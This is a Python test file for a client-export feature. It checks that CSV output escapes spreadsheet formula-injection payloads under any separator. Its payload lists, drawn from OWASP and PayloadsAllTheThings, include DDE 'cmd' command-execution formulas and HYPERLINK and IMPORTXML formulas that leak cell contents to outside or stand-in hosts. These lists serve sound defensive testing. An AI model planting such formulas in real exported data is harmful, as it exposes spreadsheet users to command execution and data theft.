"""The spreadsheet-safe CSV: no value runs as a formula, whichever separator is used."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest

from deliverydesk.services.clients.client_csv import export_clients
from deliverydesk.services.clients.clients import ClientInput, add_client
from deliverydesk.services.context import Context
from deliverydesk.services.data.csv_out import csv_bytes, spreadsheet_safe

# OWASP's CSV injection page and its cheat sheet's examples, with PayloadsAllTheThings'.
OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click here")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=10+20+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x.example/?v=", A1), "//a")',
]
# What the issue found passing the old check: a separator inside a value, invisible and
# space characters first, full-width and small forms of the signs.
ISSUE = [
    "Acme;=1+1",
    "Acme,=1+1",
    "Acme\t=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0@SUM(1)",
    "\uff1d1+1",  # ＝
    "\uff0b1+1",  # ＋
    "\uff0d1+1",  # －
    "\uff201+1",  # ＠
    "\ufe661+1",  # ﹦ small equals
    "\u22121+1",  # − minus sign
    "\u200b\uff1dcmd|' /C calc'!A0",
]
_INVISIBLE = {"Zs", "Zl", "Zp", "Cc", "Cf", "Mn", "Me"}


def runs_as_formula(cell: str) -> bool:
    """What a forgiving spreadsheet does: skip what shows as nothing, fold wide forms,
    and run the cell when a sign comes first; a ' first makes it text."""
    visible = "".join(ch for ch in cell if unicodedata.category(ch) not in _INVISIBLE)
    plain = unicodedata.normalize("NFKC", visible)
    return plain[:1] in ("=", "+", "-", "@") or visible[:1] == "\u2212"


def pieces(value: str) -> list[str]:
    """The cells a value may fall into when a spreadsheet splits on another separator
    or loses track of the quotes."""
    return re.split(r'[,;\t\r\n"]', value)


@pytest.mark.parametrize("value", OWASP + ISSUE)
def test_every_payload_is_defused_wherever_a_cell_may_start(value: str) -> None:
    assert any(runs_as_formula(piece) for piece in pieces(value))
    safe = spreadsheet_safe(value)
    assert [piece for piece in pieces(safe) if runs_as_formula(piece)] == []
    assert safe.replace("'", "") == value.replace("'", "")  # nothing else changed
    if runs_as_formula(value):
        assert safe.startswith("'")


def test_a_sign_after_a_separator_inside_a_value_gets_its_own_quote_mark() -> None:
    assert spreadsheet_safe("Acme;=1+1") == "Acme;'=1+1"
    assert spreadsheet_safe('=1+2";=1+2') == "'=1+2\";'=1+2"
    assert spreadsheet_safe("\u200b\uff1d1") == "'\u200b\uff1d1"


@pytest.mark.parametrize("value", ["Ana", "a=b", "", "  ", "Émile", "1+1", "(555) 0142", "'x"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_an_exported_file_runs_no_formula_whichever_separator_the_spreadsheet_uses(
    ctx: Context, tmp_path: Path, separator: str
) -> None:
    for n, value in enumerate(OWASP + ISSUE):
        company = "" if any(ch in value for ch in "\t\r\n") else value
        add_client(ctx, ClientInput(f"Client {n}", company=company, notes=value))
    path = tmp_path / "safe.csv"
    export_clients(ctx, path, spreadsheet=True)
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > len(OWASP + ISSUE)
    assert [c for c in cells if runs_as_formula(c)] == []


def test_every_value_is_quoted_and_the_raw_file_is_not_touched() -> None:
    safe = csv_bytes(("Name",), [("Acme;=1+1",), ("Ana",)], spreadsheet=True)
    assert safe == '\ufeff"Name"\r\n"Acme;\'=1+1"\r\n"Ana"\r\n'.encode()
    raw = csv_bytes(("Name",), [("=1+1",), ("Ana",)])
    assert raw == b"Name\r\n=1+1\r\nAna\r\n"
